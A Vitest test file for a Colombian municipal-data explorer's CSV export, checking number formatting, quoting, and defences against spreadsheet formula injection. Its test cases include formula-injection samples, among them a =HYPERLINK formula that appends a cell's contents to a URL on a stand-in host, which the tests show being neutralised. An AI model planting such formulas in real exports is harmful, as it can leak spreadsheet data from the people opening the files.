/**
 * CSV encoding: hostile text never becomes a formula, numbers stay numbers
 * (negative ones too), «no amount» is an empty cell. Expected files are
 * written out by hand, byte for byte.
 */
import { describe, expect, it } from 'vitest';
import { readSources } from '../../../scripts/data/sources.ts';
import { buildDataset } from '../dataset/index.ts';
import {
	CSV_ES_CO,
	CSV_INTERNACIONAL,
	csvSuffix,
	encodeCsv,
	formatCsvNumber,
	neutralise,
	resultToCsv,
	type CsvColumn
} from './csv.ts';
import { computeExplore, DEFAULT_STATE } from './index.ts';

describe('neutralise (text cells)', () => {
	it.each([
		['=1+1', "'=1+1"],
		['=HYPERLINK("http://x.example/?"&A1;"clic")', '\'=HYPERLINK("http://x.example/?"&A1;"clic")'],
		['+57 300 000 0000', "'+57 300 000 0000"],
		['-2+3', "'-2+3"],
		['@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['\t=1+1', "'\t=1+1"],
		['\r=1+1', "'\r=1+1"],
		['\n=1+1', "'\n=1+1"],
		['   =1+1', "'   =1+1"],
		['\u00a0=1+1', "'\u00a0=1+1"],
		['＝1+1', "'＝1+1"],
		['＠SUM(A1)', "'＠SUM(A1)"]
	])('%j -> %j', (text, expected) => expect(neutralise(text)).toBe(expected));

	it.each(['Cúcuta', 'San José de Cúcuta', 'a=b', '1-2', 'Meta 3: «Marca Región»', '', "'ya citado"])(
		'leaves %j as it is',
		(text) => expect(neutralise(text)).toBe(text)
	);
});

describe('formatCsvNumber (number cells)', () => {
	it.each([
		[1158.69, CSV_ES_CO, undefined, '1158,69'],
		[1158.69, CSV_INTERNACIONAL, undefined, '1158.69'],
		[-3.5, CSV_ES_CO, undefined, '-3,5'], // a negative number is a number: no apostrophe
		[-3.5, CSV_INTERNACIONAL, undefined, '-3.5'],
		[793211, CSV_ES_CO, 0, '793211'], // no thousands separator: "793.211" would read as 793,211
		[100, CSV_ES_CO, 0, '100'],
		[100, CSV_ES_CO, undefined, '100'],
		[0, CSV_ES_CO, undefined, '0'],
		[0.123456, CSV_ES_CO, undefined, '0,1235'],
		[-0.00001, CSV_ES_CO, undefined, '0'],
		[null, CSV_ES_CO, undefined, '']
	] as const)('%d (%o, %d decimals) -> %j', (value, dialect, decimals, expected) => {
		expect(formatCsvNumber(value, dialect, decimals)).toBe(expected);
	});

	it.each([NaN, Infinity, -Infinity])('refuses %d with a Spanish message', (value) => {
		expect(() => formatCsvNumber(value, CSV_ES_CO)).toThrow(/se esperaba un número finito o una celda vacía/);
	});
});

describe('encodeCsv', () => {
	interface Row {
		name: string;
		value: number | null;
		rank: number | null;
	}
	const columns: CsvColumn<Row>[] = [
		{ header: 'municipio', type: 'text', value: (r) => r.name },
		{ header: 'valor', type: 'number', value: (r) => r.value },
		{ header: 'puesto', type: 'number', value: (r) => r.rank, decimals: 0 }
	];
	const rows: Row[] = [
		{ name: '=HYPERLINK("http://x";"clic")', value: -3.5, rank: null },
		{ name: 'Cúcuta; "centro"', value: null, rank: 1 },
		{ name: 'Dos\nlíneas', value: 1158.69, rank: 2 }
	];

	it('es-CO: BOM, «;», decimal comma, CRLF, hostile text quoted and neutralised, empties empty', () => {
		expect(encodeCsv(rows, columns, CSV_ES_CO)).toBe(
			'\uFEFFmunicipio;valor;puesto\r\n' +
				'"\'=HYPERLINK(""http://x"";""clic"")";-3,5;\r\n' +
				'"Cúcuta; ""centro""";;1\r\n' +
				'"Dos\nlíneas";1158,69;2\r\n'
		);
	});

	it('internacional: BOM, «,», decimal point, same protection', () => {
		expect(encodeCsv(rows, columns, CSV_INTERNACIONAL)).toBe(
			'\uFEFFmunicipio,valor,puesto\r\n' +
				'"\'=HYPERLINK(""http://x"";""clic"")",-3.5,\r\n' +
				'"Cúcuta; ""centro""",,1\r\n' +
				'"Dos\nlíneas",1158.69,2\r\n'
		);
	});

	it('does not mutate its input', () => {
		const copy = structuredClone(rows);
		encodeCsv(rows, columns, CSV_ES_CO);
		expect(rows).toEqual(copy);
	});

	it('names the Spanish file plainly and the other one «-internacional»', () => {
		expect([csvSuffix(CSV_ES_CO), csvSuffix(CSV_INTERNACIONAL)]).toEqual(['', '-internacional']);
	});
});

describe('resultToCsv (the explorer download)', () => {
	const dataset = buildDataset(readSources());
	const csv = resultToCsv(computeExplore(dataset, DEFAULT_STATE), CSV_ES_CO);
	const lines = csv.slice(1).split('\r\n');
	const row = (code: string) => lines.find((l) => l.startsWith(`${code};`));

	it('has a header and one line per municipality', () => {
		expect(
			csv.startsWith(
				'\uFEFFdivipola;municipio;subregion;poblacion;valor;unidad;estado;puesto;metas;regla\r\n'
			)
		).toBe(true);
		expect(lines.filter(Boolean)).toHaveLength(41);
	});

	it('Cúcuta: its estimate as a number with decimal comma, first in rank', () => {
		// $ 3.101,46 millones under the default rule (see src/lib/views/estimate.test.ts for the sum).
		expect(row('54001')).toMatch(
			/^54001;San José de Cúcuta;Oriental;793211;3101,46;millones de pesos;nombrado, con monto estimado;1;3 4 6 8 13 14 15 18;Estimación: /
		);
	});

	it('Bucarasica (named by no meta) and Ábrego (named, no amount): empty value and rank, never 0', () => {
		expect(row('54109')).toMatch(
			/^54109;Bucarasica;Norte;7703;;millones de pesos;no nombrado;;;Estimación: /
		);
		expect(row('54003')).toMatch(
			/^54003;Ábrego;Occidental;\d+;;millones de pesos;nombrado, sin monto estimado;;12;/
		);
	});
});
